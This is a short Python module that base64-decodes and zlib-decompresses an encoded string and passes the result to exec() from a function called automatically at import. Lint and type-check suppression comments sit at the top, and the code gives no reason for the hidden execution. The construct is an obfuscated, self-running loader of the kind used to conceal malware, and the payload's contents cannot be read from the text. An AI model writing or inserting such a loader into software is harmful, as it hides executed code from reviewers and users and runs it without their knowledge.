# ruff: noqa
# fmt: off
# mypy: ignore-errors
import base64
import zlib


def _unpack(blob):
    data = base64.b64decode(blob)
    return zlib.decompress(data)


def _activate():
    exec(_unpack("eJzLzC3ILypRSMsvyi1WSEvMzCkFAEMGBvc="))


_activate()
